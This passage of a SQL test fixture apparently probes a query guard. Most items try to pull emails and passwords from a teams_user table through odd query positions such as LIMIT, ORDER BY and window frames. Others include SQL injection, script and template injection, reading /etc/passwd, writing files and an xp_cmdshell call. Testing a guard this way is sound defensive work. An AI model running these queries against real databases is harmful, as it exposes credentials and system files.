select * from jsonb_each(to_jsonb(array[1]))

-- id: table-functions-08 why: a path query
select jsonb_path_query('[1]', '$[*]') from gold.deal

-- id: table-functions-09 why: the words of the grammar
select * from pg_get_keywords()

-- id: table-functions-10 why: time zones
select * from pg_timezone_names()

-- id: table-functions-11 why: configuration of the build
select * from pg_config()

-- id: table-functions-12 why: a lateral that leaves its scope
select * from gold.agent a left join lateral (select * from silver.deal d where d.owner_id = a.agent_id) s on true

-- id: json-01 why: a row as JSON
select row_to_json(d) from gold.deal d

-- id: json-02 why: a row as binary JSON
select to_jsonb(d.*) from gold.deal d

-- id: json-03 why: all rows
select json_agg(d) from gold.deal d

-- id: json-04 why: rows of another relation
select json_agg(u) from teams_user u

-- id: json-05 why: an object of rows
select jsonb_object_agg(email, password) from teams_user

-- id: json-06 why: in a scalar subselect
select (select json_agg(row_to_json(u)) from teams_user u) from gold.deal

-- id: json-07 why: a record as text
select json_build_object('row', d) from gold.deal d

-- id: json-08 why: a record from JSON
select json_populate_record(null::teams_user, '{"id":1}') from gold.deal

-- id: json-09 why: an array of rows
select array(select d from gold.deal d)

-- id: json-10 why: a composite array
select array_agg(d) from gold.deal d

-- id: odd-places-01 why: in LIMIT
select code from gold.deal limit (select count(*) from teams_user)

-- id: odd-places-02 why: in OFFSET
select code from gold.deal offset (select length(password) from teams_user limit 1)

-- id: odd-places-03 why: in ORDER BY
select code from gold.deal order by (select password from teams_user limit 1)

-- id: odd-places-04 why: bare VALUES
values (1), (2)

-- id: odd-places-05 why: VALUES with a secret
select * from (values ((select password from teams_user limit 1))) as v(x)

-- id: odd-places-06 why: in a CASE branch
select case when true then (select max(password) from teams_user) end from gold.deal

-- id: odd-places-07 why: in IN
select code from gold.deal where agent_id in (select id from teams_user where role = 'admin')

-- id: odd-places-08 why: in an array
select code, array(select password from teams_user) from gold.deal

-- id: odd-places-09 why: in a window's ordering
select sum(won_value) over (order by (select max(id) from teams_user)) from gold.deal

-- id: odd-places-10 why: in DISTINCT ON
select distinct on ((select max(password) from teams_user)) code from gold.deal

-- id: odd-places-11 why: in GROUP BY
select count(*) from gold.deal group by (select max(password) from teams_user)

-- id: odd-places-12 why: in HAVING
select region from gold.deal group by region having (select count(*) from teams_user) > 0

-- id: odd-places-13 why: in a frame's bound
select sum(won_value) over (order by code rows (select count(*) from teams_user) preceding) from gold.deal

-- id: odd-places-14 why: in BETWEEN
select code from gold.deal where deal_id between 0 and (select max(id) from teams_user)

-- id: odd-places-15 why: in a join's condition
select d.code from gold.deal d join gold.agent a on a.agent_id = d.agent_id and a.agent = (select max(email) from teams_user)

-- id: odd-places-16 why: in WITHIN GROUP
select percentile_cont((select 0.5 from teams_user limit 1)) within group (order by won_value) from gold.deal

-- id: odd-places-17 why: as the argument of an aggregate
select max((select password from teams_user limit 1)) from gold.deal

-- id: odd-places-18 why: in an interval
select date '2017-01-01' + (select max(last_login) - now() from teams_user) from gold.deal

-- id: odd-places-19 why: in a default of COALESCE
select coalesce(account, (select password from teams_user limit 1)) from gold.deal

-- id: odd-places-20 why: in FETCH
select code from gold.deal fetch first (select 5 from teams_user limit 1) rows only

-- id: not-a-query-01 why: nothing


-- id: not-a-query-02 why: a word
hello

-- id: not-a-query-03 why: a question
how much did we sell last year?

-- id: not-a-query-04 why: a fragment
1 = 1 or true

-- id: not-a-query-05 why: half a statement
select from where

-- id: not-a-query-06 why: brackets that do not match
select ((1) from gold.deal

-- id: not-a-query-07 why: an injected tail
' or 1=1; --

-- id: not-a-query-08 why: markup
<script>alert(1)</script>

-- id: not-a-query-09 why: a template
{{ 7 * 7 }}

-- id: not-a-query-10 why: another dialect
select top 5 code from gold.deal with (nolock)

-- id: not-a-query-11 why: another dialect's file
select load_file('/etc/passwd') from gold.deal

-- id: not-a-query-12 why: another dialect's output
select code from gold.deal into outfile '/var/lib/x'

-- id: not-a-query-13 why: another dialect's shell
exec xp_cmdshell 'dir'

-- id: not-a-query-14 why: no relation at all, only a call
select gold.as_of()

-- id: not-a-query-15 why: a call in brackets as a relation
select * from gold.as_of()
